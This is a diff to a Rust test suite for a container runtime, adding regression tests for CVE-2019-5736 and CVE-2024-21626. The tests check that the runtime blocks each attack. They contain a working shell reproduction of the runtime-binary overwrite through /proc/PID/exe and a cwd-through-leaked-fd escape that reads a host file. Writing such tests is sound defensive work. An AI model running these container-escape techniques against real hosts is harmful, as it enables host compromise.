@@ -3,15 +3,15 @@
 //! honoured only by debug builds, see src/faults/), so the test can fail, then shows berth
 //! refusing it with one line and leaving nothing behind. Against a release build (or runc) the
 //! weakened rounds are skipped with a note and only the refusal is checked.
-//! CVE-2019-5736 and CVE-2024-21626 are in security.rs (their control rounds use a plain copy
-//! of the binary and a control cwd); the image-side attacks (layer entries escaping through
-//! `..`, a symlink or a hardlink) are in image.rs.
+//! The image-side attacks (layer entries escaping through `..`, a symlink or a hardlink) are in
+//! image.rs.
 
 use crate::common::*;
 use serde_json::{json, Value};
 use std::fs;
 use std::os::unix::fs::symlink;
 use std::process::Command;
+use std::time::Duration;
 
 /// Whether the binary under test honours the fault hooks: `cli.start` kills it with SIGKILL.
 fn hooks_honoured(ctx: &Ctx) -> bool {
@@ -491,4 +491,178 @@ fn build_stdin_context_hardlink_to_a_host_file() {
     assert!(m.is_empty(), "mounts left: {m:?}");
     let left = dir_entries_sorted(&eng.data.join("builder/tmp"));
     assert!(left.is_empty(), "scratch left: {left:?}");
+}
+
+/// The attacker of the CVE-2019-5736 test: a container with CAP_SYS_PTRACE (so it may open any
+/// exe in its pid namespace) that owns a pid namespace the victim joins. On /tmp/go1 it opens
+/// the first /proc/N/exe that is not its own busybox, read-only, and tries to write to it
+/// directly; on /tmp/go2 (the victim has exited, so nothing executes that file any more) it
+/// reopens it for writing through /proc/self/fd/3, which is how the published exploit rewrote
+/// runc (it held `O_PATH` of /proc/PID/exe and retried `open(/proc/self/fd/N, O_WRONLY)`
+/// until runc had exited and the text was no longer busy).
+const EXE_ATTACKER: &str = r#"
+while [ ! -e /tmp/go1 ]; do sleep 0.05; done
+found=
+for p in /proc/[0-9]*; do
+  n=${p#/proc/}
+  [ "$n" = "$$" ] && continue
+  exec 3<"$p/exe" 2>/dev/null || continue
+  t=$(readlink /proc/self/fd/3)
+  case "$t" in */busybox) exec 3<&-; continue;; esac
+  found="$n $t"
+  break
+done
+echo "${found:-none}" > /tmp/opened
+if [ -n "$found" ]; then
+  (echo pwned >> "$p/exe") 2>/dev/null && echo DIRECT-WROTE >> /tmp/result
+fi
+echo ready > /tmp/ready
+while [ ! -e /tmp/go2 ]; do sleep 0.05; done
+if [ -n "$found" ]; then
+  (echo pwned >> /proc/self/fd/3) 2>/dev/null && echo FD-WROTE >> /tmp/result
+  (echo pwned > /proc/self/fd/3) 2>/dev/null && echo FD-TRUNCATED >> /tmp/result
+fi
+echo finished >> /tmp/result
+sleep 1000
+"#;
+
+/// One CVE-2019-5736 round: the attacker runs; the victim (joining the attacker's pid
+/// namespace, entrypoint `#!/proc/self/exe`) is created with `BERTH_WEAKEN=weaken` (when not
+/// empty) and waits in `created`, its init being the runtime binary; the attacker opens that
+/// exe; the victim is started (its process runs the runtime binary once more, inside the
+/// container) and exits; then the attacker writes through its fd. The victim is created by
+/// `victim_bin` (a private copy of the binary under test, the only file the attack can damage;
+/// every other command runs the intact binary). Returns (opened, result).
+fn exe_attack(ctx: &Ctx, victim_bin: &std::path::Path, weaken: &str) -> (String, String) {
+    let mut b = ctx.bundle();
+    b.writable_root();
+    let caps = ["CAP_AUDIT_WRITE", "CAP_KILL", "CAP_NET_BIND_SERVICE", "CAP_SYS_PTRACE"];
+    b.set("/process/capabilities", json!({"bounding": caps, "effective": caps, "permitted": caps}));
+    b.sh(EXE_ATTACKER);
+    let idb = ctx.id("attacker");
+    ctx.run_detached(&mut b, &idb);
+    let pidb = ctx.pid(&idb);
+
+    let mut victim = ctx.bundle();
+    victim.write_file("evil", "#!/proc/self/exe\n", 0o755);
+    victim.args(&["/evil"]);
+    victim.ns_add("pid", Some(&format!("/proc/{pidb}/ns/pid")));
+    let ida = ctx.id("victim");
+    victim.write_config(&ida);
+    ctx.track(&ida);
+    let mut c = Command::new(victim_bin);
+    c.arg("--root").arg(&ctx.root).args(["create", "--bundle", victim.dir.to_str().unwrap(), &ida]);
+    c.stdin(std::process::Stdio::null());
+    if !weaken.is_empty() {
+        c.env("BERTH_WEAKEN", weaken);
+    }
+    ctx.exec_cmd(c, TIMEOUT).ok();
+    fs::write(b.rootfs.join("tmp/go1"), "").unwrap();
+    assert!(wait_file(&b.rootfs.join("tmp/ready"), Duration::from_secs(20)), "attacker did not get ready");
+    let opened = read(b.rootfs.join("tmp/opened"));
+    let _ = ctx.start(&ida);
+    ctx.wait_status(&ida, "stopped", Duration::from_secs(20));
+    fs::write(b.rootfs.join("tmp/go2"), "").unwrap();
+    let result = b.rootfs.join("tmp/result");
+    assert!(wait_until(Duration::from_secs(10), || read(&result).contains("finished")), "attacker did not finish");
+    let _ = ctx.delete_force(&idb);
+    let _ = ctx.delete_force(&ida);
+    (opened.trim().to_string(), read(&result))
+}
+
+/// CVE-2019-5736: a container rewrites the runtime binary on the host through /proc/PID/exe of
+/// a process running it (runc's fix: the init re-executes a sealed memfd copy; berth's: a
+/// read-only detached mount of the binary, or a sealed memfd copy). Each round runs a private
+/// copy of the binary under test, so only that copy can be damaged. Weakened
+/// (`exe-readonly`: the init runs the binary's file itself, as runc did), the copy is
+/// overwritten; then the copy is left byte for byte as it was.
+#[test]
+fn cve_2019_5736_runtime_binary_overwritten_through_proc_exe() {
+    let ctx = Ctx::new("cve-2019-5736");
+    let copy = || {
+        let p = ctx.tempdir("victim-bin").join("berth");
+        fs::copy(&ctx.bin, &p).unwrap();
+        p
+    };
+    if hooks_honoured(&ctx) {
+        let binary = copy();
+        let before = fs::read(&binary).unwrap();
+        let (opened, result) = exe_attack(&ctx, &binary, "exe-readonly");
+        assert!(
+            opened.contains(&*binary.to_string_lossy()),
+            "weakened: the attacker opened {opened:?}, not {binary:?}"
+        );
+        assert!(result.contains("FD-WROTE"), "weakened: the write through the fd should succeed: {result:?}");
+        assert!(fs::read(&binary).unwrap() != before, "weakened: the host's copy of the binary is unchanged");
+    } else {
+        skipped("exe-readonly");
+    }
+
+    let binary = copy();
+    let before = fs::read(&binary).unwrap();
+    let (opened, result) = exe_attack(&ctx, &binary, "");
+    eprintln!("attacker opened: {opened}");
+    assert!(fs::read(&binary).unwrap() == before, "the runtime binary was modified from inside a container ({opened})");
+    assert_eq!(result, "finished\n", "writes to the runtime's exe succeeded (opened: {opened})");
+}
+
+/// CVE-2024-21626 ("Leaky Vessels"): runc's init still held a handle to the host's
+/// /sys/fs/cgroup when it changed to process.cwd, so cwd = /proc/self/fd/N left the process in
+/// a host directory, from which `..` reaches the host's /. runc's fix (1.1.12): mark every
+/// non-stdio fd close-on-exec before the init runs, close the cgroup handle, and check with
+/// getcwd(2) after the chdir that the cwd is inside the container. Weakened with the leak
+/// (`init-host-dirfd`) and without the check (`cwd-check`), the process reads a host file
+/// by its host path; with the leak alone the check refuses the cwd with one line; as built,
+/// every fd number is refused or stays inside the container's root.
+#[test]
+fn cve_2024_21626_cwd_through_a_leaked_host_fd() {
+    let ctx = Ctx::new("cve-2024-21626");
+    let secret = ctx.dir.join("host-secret");
+    fs::write(&secret, "host-secret-21626\n").unwrap();
+    // From the cwd: up to the top, then the host file by its host path; then the cwd and /.
+    let script = format!("cd -P ../../../../../../../..; cat .{} 2>/dev/null; stat -c %d:%i . /", secret.display());
+    // Runs one container with cwd /proc/self/fd/N; fails the test if anything is left behind
+    // by a refused one.
+    let round = |n: u32, weaken: &str| -> Out {
+        let mut b = ctx.bundle();
+        b.set("/process/cwd", json!(format!("/proc/self/fd/{n}")));
+        b.sh(&script);
+        let id = ctx.id(&format!("fd{n}"));
+        let snap = ctx.snapshot(&b);
+        let o = run_weakened(&ctx, &mut b, &id, weaken);
+        if o.code != 0 {
+            assert!(!o.timed_out, "{o}");
+            ctx.assert_nothing_left(&snap, &b, &id);
+        }
+        o
+    };
+    let fds = 3..=12;
+
+    if hooks_honoured(&ctx) {
+        let escaped = fds.clone().find(|&n| {
+            let o = round(n, "init-host-dirfd,cwd-check");
+            eprintln!("weakened, cwd /proc/self/fd/{n}: exit {} {}", o.code, o.stdout.trim());
+            o.stdout.contains("host-secret-21626")
+        });
+        let n = escaped.expect("weakened: no /proc/self/fd/N led to the host's file");
+        // The leak alone: getcwd(2) tells the init its cwd is outside its root.
+        let o = round(n, "init-host-dirfd");
+        o.one_line_error(&["outside the container's root"]);
+        assert!(!o.stdout.contains("host-secret"), "{o}");
+    } else {
+        skipped("init-host-dirfd,cwd-check");
+    }
+
+    for n in fds {
+        let o = round(n, "");
+        eprintln!("cwd /proc/self/fd/{n}: exit {} {}", o.code, o.stderr.trim());
+        assert!(!o.stdout.contains("host-secret"), "cwd /proc/self/fd/{n} reached the host's file: {o}");
+        if o.code != 0 {
+            assert!(!o.stdout.contains(':'), "the process ran despite the failure: {o}");
+            continue;
+        }
+        let l = o.lines();
+        assert!(l.len() >= 2, "{o}");
+        assert_eq!(l[0], l[1], "cwd /proc/self/fd/{n} reached outside the container's root: {o}");
+    }
 }
